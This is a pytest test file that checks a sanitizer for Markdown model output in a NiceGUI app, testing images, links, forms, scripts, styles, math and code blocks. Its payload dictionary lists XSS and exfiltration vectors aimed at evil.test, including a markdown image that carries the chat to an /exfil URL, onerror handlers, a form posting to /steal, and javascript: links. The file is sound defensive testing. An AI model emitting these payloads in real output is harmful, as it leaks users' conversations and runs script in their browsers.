"""Model output as HTML (pages/safe_markdown.py): the probe's payloads, through Markdown as NiceGUI converts
it, come out able to load, submit, style or run nothing."""

from __future__ import annotations

import re

import pytest
from nicegui.elements.markdown import prepare_content

from pages.safe_markdown import IMAGE_LINK_CLASS, sanitize_answer_html

EXTRAS = "fenced-code-blocks tables"  # ui.markdown's defaults


def render(markdown: str) -> str:
    return sanitize_answer_html(prepare_content(markdown, EXTRAS))


def tags(html: str) -> set[str]:
    return {name.lower() for name in re.findall(r"<([a-zA-Z][\w-]*)", html)}


def attributes(html: str) -> set[str]:
    return {name.lower() for name in re.findall(r"\s([\w:-]+)=", html)}


PAYLOADS = {
    "markdown image": "![ ](http://evil.test/exfil?d=the+chat+so+far)",
    "html image": '<img src="http://evil.test/x.png" onerror="window.__xss=1">',
    "upper-case image": '<IMG SRC="http://evil.test/y.png">',
    "image element alias": '<image src="http://evil.test/z.png">',
    "svg image": '<svg><image href="http://evil.test/svg.png"/></svg>',
    "picture": '<picture><source srcset="http://evil.test/p.png"></picture>',
    "video poster": '<video poster="http://evil.test/v.png" src="http://evil.test/v.mp4"></video>',
    "audio": '<audio src="http://evil.test/a.mp3" autoplay></audio>',
    "table background": '<table background="http://evil.test/t.png"><tr><td>x</td></tr></table>',
    "form": (
        '<form action="http://evil.test/steal" method="post"><input name="q" value="secret">'
        '<textarea name="t">x</textarea><select><option>o</option></select>'
        '<button type="submit" formaction="http://evil.test/b">Send</button></form>'
    ),
    "style element": "<style>body, #app { display: none !important; }</style>",
    "style attribute": '<div style="position:fixed;inset:0;background:white">cover</div>',
    "utility classes": '<div class="fixed inset-0 z-50 bg-white">cover</div>',
    "iframe": '<iframe src="http://evil.test/frame"></iframe>',
    "srcdoc iframe": '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    "object": '<object data="http://evil.test/o.swf"></object>',
    "embed": '<embed src="http://evil.test/e.swf">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=http://evil.test/">',
    "base": '<base href="http://evil.test/">',
    "stylesheet": '<link rel="stylesheet" href="http://evil.test/s.css">',
    "script": "<script>window.__xss=2</script>",
    "event attribute": '<p onclick="window.__xss=3" onmouseover="window.__xss=4">hover</p>',
    "dom clobbering": '<a id="app" name="config">x</a>',
}


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_nothing_loads_submits_styles_or_runs(payload: str) -> None:
    html = render(f"Here it is:\n\n{payload}\n\nThe end.")
    assert tags(html) <= {"p", "a", "table", "tbody", "tr", "td", "div", "span"}, html
    assert not tags(html) & {"img", "form", "input", "button", "style", "iframe", "object", "embed"}
    assert attributes(html) <= {"href", "title", "class", "target", "rel"}, html
    assert "src=" not in html and "style=" not in html
    assert not any(name.startswith("on") for name in attributes(html))
    for href in re.findall(r'href="([^"]*)"', html):
        assert href.startswith("http"), href
    assert "window.__xss" not in html and "display: none" not in html
    assert "Here it is" in html and "The end." in html


def test_images_become_links_that_open_in_a_new_tab() -> None:
    html = render(
        '![the chart](https://img.example/chart.png?a=1&b=2 "Q3") and <img src="https://x.test/y.png"> '
        "and ![ ](https://x.test/blank.png)"
    )
    assert "<img" not in html
    links = re.findall(r"<a [^>]*>[^<]*</a>", html)
    assert len(links) == 3
    assert f'class="{IMAGE_LINK_CLASS}"' in links[0] and ">[图片：the chart]</a>" in links[0]
    assert 'href="https://img.example/chart.png?a=1&amp;b=2"' in links[0]
    assert ">[图片]</a>" in links[1] and ">[图片]</a>" in links[2]  # no alt text: a word for it
    for link in links:
        assert 'target="_blank"' in link and 'rel="noopener noreferrer"' in link


def test_an_image_that_is_no_web_url_is_only_its_text() -> None:
    html = render('![secret <b>x</b>](data:image/png;base64,AAAA) <img src="javascript:alert(1)" alt="a">')
    assert "<a" not in html and "<img" not in html
    assert "[图片：secret &lt;b&gt;x&lt;/b&gt;]" in html or "[图片：secret x]" in html
    assert "[图片：a]" in html


def test_links_keep_web_urls_only_and_open_in_a_new_tab() -> None:
    html = render(
        "[web](https://example.com/a?b=c) [mail](mailto:a@example.com) [js](javascript:alert(1)) "
        "[data](data:text/html,<script>alert(1)</script>) [vb](vbscript:msgbox) [tab](java\tscript:alert(1)) "
        '[here](/admin/ip) [frag](#top) <a href="JaVaScRiPt:alert(1)">mixed</a>'
    )
    assert re.findall(r'href="([^"]*)"', html) == ["https://example.com/a?b=c", "mailto:a@example.com"]
    anchors = re.findall(r"<a [^>]*>", html)
    assert len(anchors) == 9
    assert all('target="_blank"' in a and 'rel="noopener noreferrer"' in a for a in anchors)
    assert "javascript" not in html.lower() and "vbscript" not in html.lower()


def test_text_structure_code_and_tables_survive() -> None:
    markdown = (
        "# Title\n\nSome **bold**, *em*, `code` and ~~gone~~.\n\n> quote\n\n1. one\n2. two\n\n"
        "| left | right |\n|:--|--:|\n| a | b |\n\n```python\ndef add(a, b):\n    return a + b\n```\n"
    )
    html = render(markdown)
    assert {"h1", "strong", "em", "code", "blockquote", "ol", "li", "table", "th", "td", "pre"} <= tags(html)
    assert '<th style="text-align:left">' in html and '<td style="text-align:right">' in html
    assert '<div class="codehilite">' in html and '<span class="k">def</span>' in html


def test_a_half_written_tag_is_dropped_not_repaired_into_a_request() -> None:
    """While an answer streams, the tail may end inside a tag; each render is sanitised on its own."""
    for cut in range(1, 60):
        payload = '<img src="http://evil.test/x.png" onerror="window.__xss=1">'[:cut]
        html = render("partial " + payload)
        assert "<img" not in html and "onerror" not in html and "src=" not in html, (cut, html)


# ---- math and code headers (issue 19) ------------------------------------------------------------------
def render_answer(markdown: str) -> str:
    from pages.safe_markdown import prepare_answer, render_answer_html

    return render_answer_html(prepare_content(prepare_answer(markdown), EXTRAS), "Copy")


def test_inline_and_display_math_become_katex_mathml() -> None:
    html = render_answer("Energy $E=mc^2$ costs $5 and $10.\n\n$$\\int_0^1 x^2\\,dx$$\n\nand \\(a_1 * b_2\\)")
    assert html.count('<span class="katex">') == 3, html
    assert "<msup><mi>c</mi><mn>2</mn></msup>" in html
    assert 'display="block"' in html and 'class="katex-display"' in html
    assert "$5 and $10" in html, "money is not math"
    assert "<em>" not in html, "an asterisk in math is TeX, not emphasis"


def test_math_inside_code_stays_code() -> None:
    html = render_answer("`$x$` and\n\n```\n$$y$$\n```\n")
    assert "katex" not in html and "$x$" in html and "$$y$$" in html


@pytest.mark.parametrize(
    "tex",
    [
        r"\href{javascript:window.__xss=1}{click}",
        r"\url{javascript:window.__xss=1}",
        r"\htmlClass{fixed inset-0}{x}",
        r"\htmlStyle{position:fixed}{x}",
        r"\htmlData{foo=bar}{x}",
        r"\includegraphics{http://evil.test/i.png}",
    ],
)
def test_katex_trust_commands_do_nothing(tex: str) -> None:
    html = render_answer(f"${tex}$ and $${tex}$$")
    assert (
        "href" not in attributes(html) and "src" not in attributes(html) and "style" not in attributes(html)
    )
    assert "fixed" not in re.findall(r'class="([^"]*)"', html), html
    assert tags(html) <= {"p", "span", "math", "semantics", "mrow", "mstyle", "mtext", "annotation", "mi"}, (
        html
    )


def test_javascript_links_lose_their_target() -> None:
    for markdown in [
        "[x](javascript:window.__xss=1)",
        "<a href='JaVaScRiPt:alert(1)'>x</a>",
        "[x](data:text/html,hi)",
    ]:
        html = render_answer(markdown)
        assert "href" not in attributes(html), html


def test_code_blocks_get_a_language_and_a_copy_button_also_while_open() -> None:
    done = render_answer("```python\nprint(1)\n```\n")
    streaming = render_answer("text\n\n```js\nlet a =")
    for html, language in [(done, "python"), (streaming, "js")]:
        assert f'<span class="code-lang">{language}</span>' in html, html
        assert '<button type="button" class="code-copy" aria-label="Copy"' in html
    assert "```" not in streaming, "an open fence renders as code while it streams"


def test_a_broken_formula_shows_as_text() -> None:
    html = render_answer("$\\frac{$ and $<script>x</script>$")
    assert "<script" not in html and "katex-error" in html
